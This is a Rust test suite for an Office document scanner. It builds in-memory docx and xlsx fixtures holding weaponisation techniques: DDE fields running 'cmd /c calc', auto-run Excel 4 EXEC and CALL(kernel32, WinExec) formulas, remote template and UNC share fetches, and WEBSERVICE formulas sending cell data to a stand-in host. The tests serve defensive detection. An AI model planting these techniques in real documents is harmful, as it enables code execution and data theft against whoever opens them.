//! Documents built by the test, honest and renamed.

use crate::containers::vba::tests::{SOURCE, compress, dir, project};
use crate::testing::{Recorded, walk, walk_with};
use lazaret_model::{Limits, Role, Severity};
use std::io::{Cursor, Write as _};
use zip::write::{SimpleFileOptions, ZipWriter};

const TYPES: &str = r#"<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;

pub(crate) fn package(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in members {
        writer.start_file(*name, SimpleFileOptions::default()).unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn check(members: &[(&str, &[u8])]) -> Recorded {
    walk_with(package(members), "sample.docx", Some("docx"), &[], Limits::default())
}

fn relation(kind: &str, target: &str, mode: &str) -> String {
    format!(
        r#"<Relationships><Relationship Id="r" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>"#
    )
}

#[test]
fn macros_are_found_wherever_they_are() {
    let bin = project("/VBA", &compress(&dir("Module1", 0)), &compress(SOURCE.as_bytes()));
    for name in ["word/vbaProject.bin", "word/media/image1.png", "x"] {
        let recorded = check(&[("[Content_Types].xml", TYPES.as_bytes()), (name, &bin)]);
        assert!(recorded.parts[0].macros, "{name}");
        assert_eq!(recorded.part("//Module1").kind.id, "vba");
        assert!(recorded.part(&format!("//{name}")).macros);
    }
    assert!(!check(&[("[Content_Types].xml", TYPES.as_bytes())]).parts[0].macros);
}

#[test]
fn what_is_fetched_from_elsewhere_is_reported() {
    for (kind, target, id) in [
        ("attachedTemplate", "http://host.invalid/a.dotm", Some("ooxml.external-template")),
        ("oleObject", "\\\\host.invalid\\share\\a", Some("ooxml.external-template")),
        ("image", "file://host.invalid/a.png", Some("ooxml.external-image")),
        ("oleObject", "file:///%5C%5Chost.invalid%5Ca", Some("ooxml.external-template")),
        ("package", "https://host.invalid/a.xlsx", Some("ooxml.external-template")),
        ("extensibility", "https://host.invalid/a.xml", Some("ooxml.external-template")),
        ("package", "file:///C:\\Users\\a\\Figures.xlsx", None),
        // The writer's own disk, and whoever opens it has none of that name.
        ("attachedTemplate", "file:///C:\\Users\\a\\Letterhead.dotx", None),
        ("oleObject", "file:///E:\\a.xlsx", None),
        ("hyperlink", "http://host.invalid/", None),
    ] {
        let rels = relation(kind, target, "External");
        let recorded = check(&[("word/_rels/settings.xml.rels", rels.as_bytes())]);
        let found = recorded.findings.iter().find(|f| f.id.starts_with("ooxml.")).map(|f| f.id.to_string());
        assert_eq!(found.as_deref(), id, "{kind}");
        if id.is_some() || kind == "attachedTemplate" {
            let link = recorded.parts.iter().find(|p| p.role == Role::Link).unwrap();
            assert_eq!(recorded.bytes[&link.id], target.as_bytes());
        }
    }
    // UTF-16, as Office accepts it, and a mode in another case.
    let rels = relation("attachedTemplate", "http://host.invalid/a", "external");
    let wide: Vec<u8> = [0xfeff].into_iter().chain(rels.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    assert!(!check(&[("a.rels", &wide)]).findings.is_empty());
}

#[test]
fn dde_becomes_a_command_even_across_runs() {
    let text = r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r>
        <w:instrText>AUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#;
    let recorded = check(&[("word/document.xml", text.as_bytes())]);
    assert_eq!(recorded.bytes("//dde"), br"c:\windows\system32\cmd.exe /k calc");
    assert_eq!(recorded.part("//dde").kind.id, "command-line");
    let text = r#"<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>"#;
    assert_eq!(check(&[("xl/externalLinks/e.xml", text.as_bytes())]).bytes("//dde"), b"cmd /c calc");
}

#[test]
fn dde_is_found_whatever_parts_its_word_from_the_command() {
    const BEGIN: &str = r#"<w:r><w:fldChar w:fldCharType="begin"/></w:r>"#;
    const END: &str = r#"<w:r><w:fldChar w:fldCharType="end"/></w:r>"#;
    let code = |text: &str| format!("<w:r><w:instrText>{text}</w:instrText></w:r>");
    let simple = |text: &str| format!("<w:fldSimple w:instr=\"{text}\"/>");
    for (field, command) in [
        (code("DDE\tcmd"), Some("cmd")),
        (code("DDE\ncmd"), Some("cmd")),
        (code("DDE&#160;cmd"), Some("cmd")),
        (code(r#"DDE"C:\\cmd.exe" "/c calc""#), Some(r"C:\cmd.exe /c calc")),
        (format!("{}<w:r><w:tab/>{}</w:r>", code("DDE"), code("cmd")), Some("cmd")),
        (format!("{}{BEGIN}{}{END}", code("DDE"), code("REF c")), Some("REF c")),
        (format!("{}{}", code("DDE"), simple("REF c")), Some("REF c")),
        (simple("DDE&#9;cmd"), Some("cmd")),
        (code(r#"XE "DDE links""#), None),
        (code(r#"TOC \o "1-3""#), None),
    ] {
        let text = format!("<w:p>{BEGIN}{field}{END}</w:p>");
        let recorded = check(&[("word/document.xml", text.as_bytes())]);
        let found = recorded.parts.iter().find(|part| part.name == "dde");
        let found = found.map(|part| String::from_utf8_lossy(&recorded.bytes[&part.id]).into_owned());
        assert_eq!(found.as_deref(), command, "{field}");
    }
}

#[test]
fn excel_4_macro_sheets_give_their_formulas() {
    let sheet = r#"<xm:macrosheet><c r="A1"><f>EXEC("calc")</f><v>1</v></c></xm:macrosheet>"#;
    for name in ["xl/macrosheets/sheet1.xml", "xl/worksheets/renamed.xml"] {
        let recorded = check(&[(name, sheet.as_bytes())]);
        assert!(recorded.parts[0].macros, "{name}");
        assert!(recorded.contains(b"A1: =EXEC(\"calc\")"), "{name}");
    }
}

#[test]
fn names_tell_which_macro_starts_by_itself() {
    let sheet = br#"<xm:macrosheet><c r="A1"><f>EXEC("calc")</f></c></xm:macrosheet>"#;
    let book = br#"<workbook><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>"#;
    let recorded = check(&[("xl/macrosheets/sheet1.xml", sheet), ("xl/workbook.xml", book)]);
    let text = &recorded.bytes[&recorded.parts.iter().find(|p| p.kind.id == "excel4-macro").unwrap().id];
    assert_eq!(String::from_utf8_lossy(text), "Auto_Open: =Macro1!$A$1\nA1: =EXEC(\"calc\")\n");
}

#[test]
fn a_binary_macro_sheet_is_incomplete_whatever_it_is_called() {
    for kind in ["xlMacrosheet", "xlIntlMacrosheet"] {
        let rels = relation(kind, "x/renamed.bin", "Internal");
        let recorded = check(&[("xl/_rels/workbook.bin.rels", rels.as_bytes()), ("xl/x/renamed.bin", b"\x81\x01\0")]);
        assert!(recorded.parts[0].macros && !recorded.parts[0].complete, "{kind}");
    }
    let recorded = check(&[("xl/macrosheets/sheet1.bin", b"\x81\x01\0")]);
    assert!(recorded.parts[0].macros && !recorded.parts[0].complete);
}

#[test]
fn strict_documents_are_known_and_searched() {
    // ISO/IEC 29500-1: the Strict namespace stands in other URLs.
    let types =
        TYPES.replace("<Types", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"");
    let rels = r#"<Relationships><Relationship Id="r" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" Target="http://host.invalid/a.dotm" TargetMode="External"/></Relationships>"#;
    let document = r#"<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main" w:conformance="strict"><w:p><w:r><w:instrText>DDEAUTO cmd "/k calc"</w:instrText></w:r></w:p></w:document>"#;
    let members: [(&str, &[u8]); 3] = [
        ("[Content_Types].xml", types.as_bytes()),
        ("word/document.xml", document.as_bytes()),
        ("word/_rels/settings.xml.rels", rels.as_bytes()),
    ];
    let recorded = walk(package(&members), "x");
    assert_eq!(recorded.parts[0].kind.id, "docx");
    assert_eq!(recorded.bytes("//dde"), b"cmd /k calc");
    assert!(recorded.findings.iter().any(|f| f.id == "ooxml.external-template"));
}

#[test]
fn a_document_is_known_by_its_content() {
    let bin = project("/VBA", &compress(&dir("Module1", 0)), &compress(SOURCE.as_bytes()));
    let document = "<w:document/>".as_bytes();
    let members: [(&str, &[u8]); 3] =
        [("[Content_Types].xml", TYPES.as_bytes()), ("word/document.xml", document), ("word/vbaProject.bin", &bin)];
    let recorded = walk(package(&members), "x");
    assert!(recorded.parts[0].macros, "{:?}", recorded.parts[0].kind);
    assert!(recorded.contains(b"LAZARET-MARKER"));
}

#[test]
fn what_only_the_document_s_program_reads_is_no_unknown_file() {
    let settings = [2, 0, 0, 0, 1, 0, 0, 0, 0xaa, 0x19, 0, 0];
    let recorded = check(&[("[Content_Types].xml", TYPES.as_bytes()), ("ppt/printerSettings1.bin", &settings)]);
    assert_eq!(recorded.part("printerSettings1.bin").kind.id, "document-part");
    // In an archive the same bytes are a file like any other.
    let recorded = walk(package(&[("printerSettings1.bin", &settings)]), "a.zip");
    assert_eq!(recorded.part("printerSettings1.bin").kind.id, "unknown");
}

#[test]
fn no_number_of_places_or_commands_hides_one() {
    let links: String =
        (0..300).map(|at| relation("hyperlink", &format!("http://host.invalid/{at}"), "External")).collect();
    let images: String =
        (0..300).map(|at| relation("image", &format!("http://host.invalid/{at}"), "External")).collect();
    let template = relation("attachedTemplate", "http://host.invalid/LAZARET.dotm", "External");
    let recorded = check(&[("word/_rels/settings.xml.rels", format!("{links}{images}{template}").as_bytes())]);
    // Of the findings only so many are kept, and this one weighs most.
    assert!(recorded.findings.iter().any(|f| f.id == "ooxml.external-template"));
    assert!(recorded.contains(b"http://host.invalid/LAZARET.dotm") && recorded.complete());
    assert_eq!(recorded.parts.iter().filter(|p| p.role == Role::Link).count(), 301);
    let commands: String = (0..300).map(|at| format!(r#"<w:fldSimple w:instr="DDE cmd {at}"/>"#)).collect();
    let text = format!(r#"<w:p>{commands}<w:fldSimple w:instr="DDE cmd LAZARET"/></w:p>"#);
    let recorded = check(&[("word/document.xml", text.as_bytes())]);
    assert_eq!(recorded.bytes("//dde#301"), b"cmd LAZARET");
}

#[test]
fn more_places_or_commands_than_are_looked_at_are_said() {
    let limits = Limits { parts: 20, ..Limits::default() };
    let image = relation("image", "http://host.invalid/", "External");
    let commands: String = (0..5001).map(|at| format!(r#"<w:fldSimple w:instr="DDE cmd {at}"/>"#)).collect();
    for (name, text, reason) in [
        ("word/_rels/a.rels", image.repeat(5001), "it has more than 5000 places"),
        ("word/document.xml", commands, "it has more than 5000 commands"),
    ] {
        let recorded = walk_with(package(&[(name, text.as_bytes())]), "sample.docx", Some("docx"), &[], limits.clone());
        let incomplete = &recorded.parts[0].incomplete;
        assert!(incomplete.iter().any(|given| given.starts_with(reason)), "{incomplete:?}");
    }
}

#[test]
fn neither_blanks_nor_prefixes_nor_other_fields_hide_anything() {
    let template = relation("attachedTemplate", "http://host.invalid/a.dotm", "External");
    for rels in [format!("{}{template}", " ".repeat(5000)), template.replace("Target=", "x:Target=\"a\" Target=")] {
        let recorded = check(&[("word/_rels/settings.xml.rels", rels.as_bytes())]);
        assert!(recorded.findings.iter().any(|f| f.id == "ooxml.external-template"));
        assert!(recorded.contains(b"http://host.invalid/a.dotm"));
    }
    for text in [
        r#"<w:fldSimple x:instr="PAGE" w:instr="DDE cmd LAZARET"/>"#,
        r#"<w:instrText>DDE cmd LAZARET DDEAUTO x y</w:instrText>"#,
    ] {
        assert!(check(&[("word/document.xml", text.as_bytes())]).bytes("//dde").starts_with(b"cmd LAZARET"), "{text}");
    }
}

#[test]
fn a_macro_sheet_that_is_read_does_not_stand_for_one_that_is_not() {
    let rels = relation("xlMacrosheet", "x/renamed.bin", "Internal");
    let sheet: &[u8] = br#"<xm:macrosheet><c r="A1"><f>HALT()</f></c></xm:macrosheet>"#;
    let book = ("xl/_rels/workbook.bin.rels", rels.as_bytes());
    for (read, complete) in [("xl/decoy.xml", false), ("xl/x/renamed.bin", true)] {
        let recorded = check(&[book, (read, sheet)]);
        assert_eq!(recorded.parts[0].complete, complete, "{read}");
        assert!(recorded.parts[0].macros);
    }
}

#[test]
fn a_long_cell_name_does_not_multiply() {
    let sheet =
        format!(r#"<xm:macrosheet><c r="{}">{}</c></xm:macrosheet>"#, "A".repeat(10_000), "<f>1</f>".repeat(10_000));
    let recorded = check(&[("xl/macrosheets/sheet1.xml", sheet.as_bytes())]);
    assert!(recorded.parts.iter().filter(|p| p.kind.id == "excel4-macro").all(|p| p.size < 1 << 20));
}

#[test]
fn a_ribbon_that_calls_a_macro_by_itself_is_reported() {
    let bin = project("/VBA", &compress(&dir("Module1", 0)), &compress(SOURCE.as_bytes()));
    let ribbon = |attributes: &str| {
        format!(
            r#"<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" {attributes}><ribbon/></customUI>"#
        )
    };
    for (attributes, with_macros, reported) in [
        ("onLoad=\"Start\"", true, true),
        ("loadImage='Start'", true, true),
        ("onLoad=\"Start\"", false, false),
        ("onLoad=\"a.xlam!Start\"", false, true),
        ("x=\"onLoad\"", true, false),
    ] {
        let text = ribbon(attributes);
        let mut members = vec![("[Content_Types].xml", TYPES.as_bytes()), ("customUI/customUI14.xml", text.as_bytes())];
        if with_macros {
            members.push(("word/vbaProject.bin", &bin[..]));
        }
        let recorded = check(&members);
        assert_eq!(recorded.findings.iter().any(|f| f.id == "macros.auto-run"), reported, "{attributes} {with_macros}");
    }
}

#[test]
fn a_share_is_reported_whatever_it_is_to_the_document() {
    for (kind, target, id) in [
        ("mailMergeSource", "file:///\\\\host.invalid\\a.csv", Some("ooxml.external-image")),
        ("audio", "\\\\host.invalid\\a.mp3", Some("ooxml.external-image")),
        ("aFChunk", "https://host.invalid/a.htm", Some("ooxml.external-template")),
        ("transform", "https://host.invalid/a.xsl", Some("ooxml.external-template")),
        ("video", "https://host.invalid/a", None),
        ("mailMergeSource", "file:///C:\\a.csv", None),
        ("hyperlink", "\\\\host.invalid\\a.docx", None),
    ] {
        let rels = relation(kind, target, "External");
        let recorded = check(&[("word/_rels/settings.xml.rels", rels.as_bytes())]);
        let found = recorded.findings.iter().find(|f| f.id.starts_with("ooxml.")).map(|f| f.id.to_string());
        assert_eq!(found.as_deref(), id, "{kind} {target}");
    }
    let book = r#"<connections><connection id="1" odcFile="\\host.invalid\a.odc"/></connections>"#;
    assert!(check(&[("xl/connections.xml", book.as_bytes())]).findings.iter().any(|f| f.id == "ooxml.external-image"));
    let web = r#"<connections><connection id="1"><webPr url="https://host.invalid/"/></connection></connections>"#;
    assert!(check(&[("xl/connections.xml", web.as_bytes())]).findings.is_empty());
}

#[test]
fn sources_of_letters_controls_and_add_ins_elsewhere_are_reported() {
    const SHOWN: &str = "Office.AutoShowTaskpaneWithDocument";
    let merge = |value: &str| format!(r#"<w:mailMerge><w:connectString w:val="{value}"/></w:mailMerge>"#);
    let control =
        |name: &str, value: &str| format!(r#"<ax:ocx><ax:ocxPr ax:name="{name}" ax:value="{value}"/></ax:ocx>"#);
    let add_in = |store: &str, property: &str| {
        format!(
            r#"<we:webextension><we:reference id="x" store="{store}"/><we:property name="{property}" value="true"/></we:webextension>"#
        )
    };
    for (text, reported) in [
        (merge(r"Provider=x;Data Source=\\host.invalid\s\a.mdb"), true),
        (merge(r"Provider=x;Data Source=C:\data\a.mdb"), false),
        (merge(r"Provider=x;Data Source=\\server\team\a.mdb"), false),
        (control("URL", "https://host.invalid/a.wmv"), true),
        (control("Location", r"\\host.invalid\s\a.html"), true),
        (control("Caption", "https://host.invalid/"), false),
        (control("Data", "12"), false),
        (add_in("https://host.invalid/sites/a", SHOWN), true),
        (add_in("https://host.invalid/sites/a", "other"), false),
        (add_in("en-US", SHOWN), false),
        (relation("mailMergeSource", "https://host.invalid/a.mdb", "External"), true),
        (relation("mailMergeHeaderSource", "file:///C:\\a.csv", "External"), false),
    ] {
        let found: Vec<_> = check(&[("word/a.xml", text.as_bytes())]).findings;
        // What is held: such a document is opened up somewhere else, and seldom without a reason.
        let held = found.iter().any(|f| f.id == "ooxml.external-image" && f.severity >= Severity::Medium);
        assert_eq!(held, reported, "{text}: {found:?}");
    }
}

#[test]
fn fields_that_fetch_are_reported_as_relationships_are() {
    for (code, id) in [
        (r#"INCLUDEPICTURE "\\\\host.invalid\\a.png" \d"#, Some("ooxml.external-image high")),
        (r#"INCLUDEPICTURE "https://host.invalid/a.png""#, Some("ooxml.external-image low")),
        (r#"INCLUDETEXT "https://host.invalid/a.docx""#, Some("ooxml.external-template high")),
        (r#"LINK htmlfile "https://host.invalid/a.hta""#, Some("ooxml.external-template high")),
        (r#"INCLUDEPICTURE "C:\\a.png""#, None),
        (r#"HYPERLINK "https://host.invalid/""#, None),
        ("PAGE", None),
    ] {
        let letters: String =
            code.chars().map(|c| format!("<w:instrText>{c}</w:instrText>").replace('"', "&quot;")).collect();
        let text = format!(
            r#"<w:r><w:fldChar w:fldCharType="begin"/></w:r>{letters}<w:r><w:fldChar w:fldCharType="end"/></w:r>"#
        );
        let recorded =
            check(&[("word/document.xml", text.replace("<w:instrText>&quot;<", "<w:instrText>\"<").as_bytes())]);
        let found = recorded.findings.first().map(|f| format!("{} {}", f.id, f.severity));
        assert_eq!(found.as_deref(), id, "{code}");
    }
}

#[test]
fn links_that_lead_elsewhere_than_to_a_page_are_parts() {
    let rels = relation("hyperlink", "ms-word:ofe|u|https://host.invalid/a", "External");
    let field = r#"<w:instrText>HYPER</w:instrText><w:instrText>LINK "odd:LAZARET" \o "tip: x"</w:instrText>"#;
    let cell = r#"<row><c><f>HYPERLINK("\\host.invalid\a.lnk","x")</f></c></row>"#;
    let recorded = check(&[
        ("word/_rels/document.xml.rels", rels.as_bytes()),
        ("word/document.xml", field.as_bytes()),
        ("xl/worksheets/sheet1.xml", cell.as_bytes()),
        ("word/_rels/a.rels", relation("hyperlink", "https://host.invalid/", "External").as_bytes()),
    ]);
    let links = recorded.parts.iter().filter(|p| p.role == Role::Link).map(|p| &recorded.bytes[&p.id][..]);
    assert_eq!(
        links.collect::<Vec<_>>(),
        [&b"ms-word:ofe|u|https://host.invalid/a"[..], b"odd:LAZARET", b"\\\\host.invalid\\a.lnk"]
    );
}

#[test]
fn a_slide_that_runs_a_program_and_a_formula_that_asks_one_are_reported() {
    let slide = |action: &str| format!(r#"<p:sld><a:hlinkMouseOver r:id="r2" action="ppaction://{action}"/></p:sld>"#);
    for (action, reported) in [("program", true), ("hlinksldjump", false), ("hlinkshowjump?jump=nextslide", false)] {
        let recorded = check(&[("ppt/slides/slide1.xml", slide(action).as_bytes())]);
        assert_eq!(recorded.findings.iter().any(|f| f.id == "ooxml.program-action"), reported, "{action}");
    }
    let sheet = r#"<sheetData><c r="A1"><f>1+cmd|&apos;/c calc&apos;!A0</f></c></sheetData>"#;
    assert_eq!(check(&[("xl/worksheets/sheet1.xml", sheet.as_bytes())]).bytes("//dde"), b"cmd /c calc");
}

#[test]
fn data_on_a_share_outside_of_the_house_is_reported_where_it_is_fetched_at_once() {
    for (connection, refresh, reported) in [
        (r"Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\host.invalid\s\a.xlsx;Extended Properties=x", "1", true),
        (r"DRIVER={Microsoft Text Driver};DBQ=\\203.0.113.5\s", "true", true),
        (r"Provider=x;Data Source=\\host.invalid\s\a.xlsx", "0", false),
        (r"Provider=x;Data Source=\\server\team\a.xlsx", "1", false),
        (r"Provider=SQLOLEDB;Data Source=sql.house.invalid;Initial Catalog=x", "1", false),
    ] {
        let text = format!(
            r#"<connections><connection id="1" refreshOnLoad="{refresh}"><dbPr connection="{connection}"/></connection></connections>"#
        );
        let recorded = check(&[("xl/connections.xml", text.as_bytes())]);
        assert_eq!(recorded.findings.iter().any(|f| f.id == "ooxml.external-image"), reported, "{connection}");
    }
    // A table of the sheet may say that it is refreshed.
    let data =
        r#"<connections><connection id="1"><dbPr connection="DBQ=\\host.invalid\s"/></connection></connections>"#;
    let table = r#"<queryTable connectionId="1" refreshOnLoad="1"/>"#;
    let recorded =
        check(&[("xl/connections.xml", data.as_bytes()), ("xl/queryTables/queryTable1.xml", table.as_bytes())]);
    assert!(recorded.findings.iter().any(|f| f.id == "ooxml.external-image"));
}

#[test]
fn workbooks_elsewhere_in_formulas_and_formulas_of_names_are_reported() {
    let sheet = |formula: &str| format!("<sheetData><c r=\"A1\"><f>{formula}</f></c></sheetData>");
    for (formula, id) in [
        (r"'\\host.invalid\s\[a.xlsx]S'!A1", Some("ooxml.external-image")),
        (r"'C:\Windows\System32\cmd.exe'|'/c calc'!A0", Some("ooxml.dde")),
        ("cmd|calc!A0", Some("ooxml.dde")),
        ("_xlfn.IMAGE(\"https://host.invalid/?\"&amp;A2)", Some("ooxml.web-formula")),
        ("_xlfn.IMAGE(\"https://host.invalid/a.png\")", None),
        ("HYPERLINK(\"https://host.invalid/?id=\"&amp;A2)", None),
        (r"'C:\data\[a.xlsx]S'!A1", None),
        ("'ms-data sheet'!A1", None),
    ] {
        let recorded = check(&[("xl/worksheets/sheet1.xml", sheet(formula).as_bytes())]);
        let found = recorded.findings.iter().map(|f| &*f.id).find(|id| id.starts_with("ooxml."));
        assert_eq!(found, id, "{formula}");
    }
    for (name, formula, reported) in [
        ("_xlnm.Auto_Open", "EXEC(\"calc\")", true),
        ("_xlnm.Auto_Open", "EXEC(A1)", true),
        ("x", "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", true),
        ("x", "Sheet1!$A$1", false),
        ("x", "EXEC(A1)", false),
    ] {
        let book = format!(r#"<definedNames><definedName name="{name}">{formula}</definedName></definedNames>"#);
        let recorded = check(&[("xl/workbook.xml", book.as_bytes())]);
        let found = recorded.findings.iter().any(|f| f.id == "ooxml.library-formula");
        assert_eq!(found, reported, "{name} {formula}");
    }
}

#[test]
fn a_formula_that_calls_a_library_is_reported_and_one_that_fetches_is_told() {
    for (formula, reported) in [
        ("CALL(\"kernel32\",\"WinExec\",\"JFJ\",\"calc\",1)", Some("ooxml.library-formula")),
        ("CALL(B1,B2,B3,B4,1)", Some("ooxml.library-formula")),
        ("IF(1,EXEC(\"calc\"),0)", Some("ooxml.library-formula")),
        ("\"CALL(B1)\"&amp;B2", None),
        ("RTD(\"a.b\",\"host.invalid\",\"c\")", Some("ooxml.library-formula")),
        ("_xlfn.WEBSERVICE(\"https://host.invalid/?\"&amp;A1)", Some("ooxml.web-formula")),
        ("RTD(\"a.b\",,\"c\")", None),
        ("IF(A1&gt;0,\"CALL(\",SUM(B1:B9))", None),
    ] {
        let sheet = format!("<x:sheetData><x:c r=\"A1\"><x:f>{formula}</x:f></x:c></x:sheetData>");
        let recorded = check(&[("xl/worksheets/sheet1.xml", sheet.as_bytes())]);
        let found = recorded.findings.iter().map(|finding| &*finding.id).find(|id| id.starts_with("ooxml."));
        assert_eq!(found, reported, "{formula}");
    }
}
